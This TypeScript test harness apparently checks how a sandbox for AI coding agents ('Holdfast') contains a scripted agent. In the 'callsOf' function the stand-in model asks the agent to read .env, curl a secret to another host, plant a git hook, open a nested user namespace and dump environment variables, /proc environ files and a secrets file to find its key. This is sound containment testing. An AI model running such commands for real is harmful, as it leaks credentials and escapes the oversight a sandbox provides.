import { spawn } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import process from 'node:process';
import { binary, type Project } from '../../lib/holdfast.ts';
import { startMachine } from '../../lib/machine.ts';
import { type AgentDialect, lastWords, resultsIn, type ToolCall } from '../real-clis/dialog.ts';
import { modelHosts, otherHost, sideHosts } from './model-hosts.ts';
import { seenInTmux } from './tmux.ts';
import { shellTools, type WholeAgent } from './whole-agents.ts';

/** Boxes see this Node too. An agent would start more slowly with the older one of the system. */
const nodeFolder = `.nvm/versions/node/${process.version}/bin`;

const envSecret = 'EXAMPLE-value-of-the-environment-file';

const wishes = [
  'edits a file',
  'runs a test',
  'reads .env',
  'writes a git hook',
  'reaches another host',
  'commits',
  'starts a sandbox of its own',
  'looks for its key',
] as const;
export type Wish = (typeof wishes)[number];

export interface WholeOutcome {
  /** The result of each wish, at the end. */
  readonly happened: Readonly<Record<Wish, boolean>>;
  readonly told: Readonly<Record<Wish, string>>;
  /** The key that the model's server received. */
  readonly keyAtServer: 'the key' | 'something else' | 'nothing';
  readonly output: string;
  readonly ended: 'in order' | string;
  /** Calls that `holdfast usage` has counted. */
  readonly counted: number;
  /** Milliseconds from the start to the first request to the model. */
  readonly started: number;
}

/**
 * `boxed`: as `holdfast run NAME`, the first of all runs. `warm`: after another run, whose supervisor stays. `bare`:
 * without Holdfast. `full-screen`: as `boxed`, at a tmux terminal in front of a person.
 */
export interface WholeScene {
  readonly project: Project;
  readonly agent: WholeAgent;
  readonly program: string;
  readonly way: 'boxed' | 'warm' | 'bare' | 'full-screen';
}

/** Runs the whole agent once, with a model that asks for the eight things in turn. */
export async function performWhole({ project, agent, program, way }: WholeScene): Promise<WholeOutcome> {
  const directory = join(project.root, 'machine');
  mkdirSync(directory, { recursive: true });
  const calls = callsOf(agent, project);
  writeFileSync(join(directory, 'dialog.json'), JSON.stringify(Object.values(calls)));
  setScene(project, { agent, program, way });
  await using machine = await startMachine({
    directory,
    internet: {
      fixture: 'test/fixtures/model-internet.ts',
      hosts: {
        [otherHost.name]: otherHost.address,
        ...Object.fromEntries(sideHosts.names.map((name) => [name, sideHosts.address])),
        ...Object.fromEntries(Object.entries(modelHosts).map(([name, { address }]) => [name, address])),
      },
    },
  });
  const words = way === 'full-screen' && agent.fullScreen.kind === 'tried' ? agent.fullScreen.words : agent.words;
  const argv = way === 'bare' ? [program, ...words] : [binary, 'run', ...agent.grants, agent.name, ...words];
  const run = way === 'full-screen' ? seenInTmux : ended;
  const inMachine = (command: readonly string[]): readonly string[] =>
    // A directory that a process entered in another mount namespace has no path in this one.
    machine.words(project.workspace, ['sh', '-c', 'cd "$0" && exec "$@"', project.workspace, ...command]);
  const { HOLDFAST_RESIDENT: resident, ...environment } = environmentOf(agent, project);
  if (way === 'warm')
    await warmUp({ project, agent, run: (command) => ended(inMachine([binary, ...command]), environment) });
  const began = Date.now();
  const { output, status } = await run(
    inMachine(argv),
    way === 'warm' ? environment : { ...environment, HOLDFAST_RESIDENT: resident },
  );
  if (way === 'warm') await ended(inMachine([binary, 'stop', '--resident']), environment);
  await new Promise((resolve) => setTimeout(resolve, 300));
  const requests = linesOf(join(directory, 'requests'));
  const results = resultsOf(agent.dialect, requests);
  return {
    ...judged(project, { results, heard: linesOf(join(directory, 'heard')) }),
    keyAtServer: keyIn(requests, agent),
    output,
    counted: countedBy(project),
    started: firstCall(agent.dialect, requests) - began,
    ended:
      status === 0 && output.includes(lastWords) && results.length === wishes.length
        ? 'in order'
        : `${status} after ${results.length} calls of ${requests.length} requests: ${output}`,
  };
}

interface WarmUp extends Pick<WholeScene, 'project' | 'agent'> {
  readonly run: (command: readonly string[]) => ReturnType<typeof ended>;
}

/**
 * Imitates an earlier use of the agent. Its plan exists, and a supervisor stays in the machine's network, which has
 * carried a request.
 */
async function warmUp({ project: { state }, agent, run }: WarmUp): Promise<void> {
  const { status, output } = await run(['run', ...agent.grants, agent.name, '--version']);
  if (status !== 0) throw new Error(output);
  const directory = join(state, 'run');
  while (!existsSync(directory) || !readdirSync(directory).some((name) => name.startsWith('front-')))
    await new Promise((resolve) => setTimeout(resolve, 20));
  const urls = Object.keys(modelHosts).map((host) => `https://${host}/`);
  await run(['run', '--profile', agent.name, '--', 'curl', '-s', ...urls]);
}

function callsOf(agent: WholeAgent, { workspace }: Project): Readonly<Record<Wish, ToolCall>> {
  const shell = shellTools[agent.tools];
  return {
    'edits a file': shell('echo edited >> notes.txt'),
    'runs a test': shell('sh ./check.sh'),
    'reads .env': shell('cat .env'),
    'writes a git hook': shell("printf '#!/bin/sh\\n' > .git/hooks/post-checkout"),
    'reaches another host': shell(`curl -sS --max-time 10 -d secret http://${otherHost.name}/`),
    commits: shell('git add notes.txt && git commit -qm "by the agent" && git log -1 --format=%s'),
    'starts a sandbox of its own': shell('unshare -Ur sh -c "echo nested-$((40 + 2))"; true'),
    'looks for its key': shell(`env; cat /proc/*/environ | tr '\\0' '\\n'; cat ${workspace}/../home/.secrets; true`),
  };
}

function setScene(project: Project, { agent, program, way }: Omit<WholeScene, 'project'>): void {
  const state = way === 'bare' ? '../home/state' : `../home/.local/share/holdfast-agents/${agent.name}`;
  for (const [path, text] of Object.entries(agent.settings(project.workspace))) project.write(`${state}/${path}`, text);
  project.write('notes.txt', 'an ordinary note\n');
  project.write('check.sh', 'grep -q edited notes.txt && echo the test passed\n');
  project.write('.env', `TOKEN=${envSecret}\n`);
  project.write('../home/.secrets', `${agent.key.value}\n`);
  mkdirSync(join(project.workspace, '.git/hooks'), { recursive: true });
  // Gemini CLI keeps git from reading the user's configuration.
  for (const [key, value] of [
    ['name', 'Agent'],
    ['email', 'agent@example.com'],
  ] as const)
    project.outside('git', ['config', `user.${key}`, value]);
  for (const folder of ['tools/bin', 'state', nodeFolder]) mkdirSync(join(project.home, folder), { recursive: true });
  symlinkSync(program, join(project.home, 'tools/bin', agent.name));
  copyFileSync(process.execPath, join(project.home, nodeFolder, 'node'));
}

function environmentOf(agent: WholeAgent, { environment, home, root }: Project): NodeJS.ProcessEnv {
  return {
    ...environment,
    PATH: `${join(home, 'tools/bin')}:${join(home, nodeFolder)}:${environment['PATH'] ?? ''}`,
    HOME: home,
    SHELL: '/bin/bash',
    TERM: 'xterm-256color',
    [agent.key.variable]: agent.key.value,
    ...agent.environment(join(home, 'state')),
    // Node has its own roots.
    NODE_EXTRA_CA_CERTS: join(root, 'machine/ca.pem'),
  };
}

async function ended(
  [program = '', ...words]: readonly string[],
  env: NodeJS.ProcessEnv,
): Promise<{ readonly output: string; readonly status: number | null }> {
  const child = spawn(program, words, {
    env,
    stdio: ['ignore', 'pipe', 'pipe'],
    timeout: 240_000,
    killSignal: 'SIGKILL',
  });
  let output = '';
  for (const stream of [child.stdout, child.stderr]) stream.on('data', (chunk: Buffer) => (output += chunk.toString()));
  return new Promise((resolve) => child.once('close', (status) => resolve({ output, status })));
}

type Noted = Readonly<Record<string, unknown>>;

function linesOf(file: string): readonly Noted[] {
  if (!existsSync(file)) return [];
  return readFileSync(file, 'utf8')
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as Noted);
}

function resultsOf(dialect: AgentDialect, requests: readonly Noted[]): readonly string[] {
  const all = requests.flatMap(({ body }) => {
    try {
      return [resultsIn(dialect, JSON.parse(String(body)) as Record<string, unknown>)];
    } catch {
      return [];
    }
  });
  return all.toSorted((one, other) => other.length - one.length)[0] ?? [];
}

/** Time of the model's first real request, in milliseconds of the epoch. */
function firstCall(dialect: AgentDialect, requests: readonly Noted[]): number {
  const paths = { anthropic: /\/messages/u, openai: /\/(?:responses|completions)/u, gemini: /[gG]enerateContent/u };
  const first = requests.find(({ path }) => paths[dialect].test(String(path)));
  return first === undefined ? Infinity : Number(first['time']);
}

function keyIn(requests: readonly Noted[], { key }: WholeAgent): WholeOutcome['keyAtServer'] {
  const sent = requests.map(({ path, headers }) => `${String(path)} ${JSON.stringify(headers)}`);
  const keyed = sent.filter((text) => /authorization|x-api-key|x-goog-api-key|[?&]key=/u.test(text));
  if (keyed.length === 0) return 'nothing';
  return keyed.every((text) => text.includes(key.value)) ? 'the key' : 'something else';
}

function judged(
  project: Project,
  { results, heard }: { readonly results: readonly string[]; readonly heard: readonly Noted[] },
): Pick<WholeOutcome, 'happened' | 'told'> {
  const told = Object.fromEntries(wishes.map((wish, index) => [wish, results[index] ?? ''])) as Record<Wish, string>;
  const { workspace } = project;
  const git = project.outside('git', ['log', '-1', '--format=%s']).stdout.trim();
  return {
    told,
    happened: {
      'edits a file': readFileSync(join(workspace, 'notes.txt'), 'utf8').includes('edited'),
      'runs a test': told['runs a test'].includes('the test passed'),
      'reads .env': results.some((text) => text.includes(envSecret)),
      'writes a git hook': existsSync(join(workspace, '.git/hooks/post-checkout')),
      'reaches another host': heard.length > 0,
      commits: git === 'by the agent',
      'starts a sandbox of its own': told['starts a sandbox of its own'].includes('nested-42'),
      'looks for its key': told['looks for its key'].includes(keyMark),
    },
  };
}

/** A mark in the real key of every agent, which no phantom contains. */
const keyMark = 'REALrealREALreal';

function countedBy(project: Project): number {
  const { stdout } = project.holdfast(['usage', '--json', '--since', '1h']);
  try {
    const { rows = [] } = JSON.parse(stdout) as { readonly rows?: readonly { readonly calls?: number }[] };
    return rows.reduce((sum, { calls = 0 }) => sum + calls, 0);
  } catch {
    return 0;
  }
}
